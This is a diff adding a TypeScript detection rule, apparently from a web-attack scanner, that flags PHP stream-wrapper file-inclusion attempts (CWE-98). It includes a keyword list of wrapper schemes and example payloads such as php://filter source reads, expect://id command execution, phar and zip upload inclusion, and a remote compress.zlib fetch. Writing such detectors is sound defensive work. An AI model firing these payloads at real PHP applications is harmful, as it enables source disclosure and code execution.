@@ -1,0 +1,86 @@
+import type { Url } from '../../tokenise/url.ts';
+import type { ValueRule } from '../rule.ts';
+import type { Subject } from '../subject.ts';
+import { strongestUrl } from './place.ts';
+
+/** `php://filter/…`: the stream wrappers of PHP, which read, decode and run what a path cannot. */
+export const streamWrapper: ValueRule = {
+  id: 'rfi.stream-wrapper',
+  category: 'rfi',
+  cwe: 'CWE-98',
+  severity: 'critical',
+  score: 92,
+  message: 'uses a PHP stream wrapper to read or run what a file name alone cannot reach',
+  trigger: {
+    literals: [
+      [
+        'php:/',
+        'phar:/',
+        'zip:/',
+        'expect:/',
+        'glob:/',
+        'compress.',
+        'ssh2.',
+        'ogg:/',
+        'rar:/',
+        'zlib:',
+        'bzip2:',
+        'php:\\',
+      ],
+    ],
+  },
+  judge: (subject) =>
+    strongestUrl(subject, (url, place) => {
+      const strength = strengthOf(subject, url);
+      if (strength === 0) return 0;
+      if (place === 'whole' || place === 'parameter') return strength;
+      // Manuals quote the wrappers; a chain of filters is no quotation.
+      return strength >= 92 ? 76 : 45;
+    }),
+  examples: [
+    'php://filter/convert.base64-encode/resource=index.php',
+    'php://input',
+    'expect://id',
+    '/view?page=zip://uploads/a.zip%23x.php',
+    'phar://avatar.jpg/x.php',
+    'compress.zlib://http://203.0.113.5/x.txt',
+    'ssh2.sftp://user:pass@203.0.113.5/etc/hosts',
+    'glob:///etc/pass*',
+  ],
+  lookalikes: [
+    'In PHP read the raw body from php://input, then decode it.',
+    'What to expect: //TODO',
+    'Zip: //unknown',
+    'the zip:// and phar:// wrappers are described in the manual',
+  ],
+};
+
+function strengthOf(subject: Subject, url: Url): number {
+  if (url.slashes < 2) return 0;
+  const rest = subject.text.slice(url.authorityStart, Math.min(url.end, url.authorityStart + 400));
+  if (url.scheme === 'php')
+    return phpTarget.test(rest) ? (rest.includes('resource=') ? 95 : 88) : 0;
+  if (!wrappers.has(url.scheme)) return 0;
+  return wrappedTarget.test(rest) ? 88 : 0;
+}
+
+const phpTarget = /^(?:filter|input|stdin|fd|memory|temp|output)(?:$|[/&?#%\u0000'";, ])/i;
+const wrappedTarget = /^[\w./%~{}$-]/;
+
+const wrappers: ReadonlySet<string> = new Set([
+  'phar',
+  'zip',
+  'expect',
+  'glob',
+  'compress.zlib',
+  'compress.bzip2',
+  'ssh2.sftp',
+  'ssh2.exec',
+  'ssh2.shell',
+  'ssh2.scp',
+  'ssh2.tunnel',
+  'ogg',
+  'rar',
+  'zlib',
+  'bzip2',
+]);
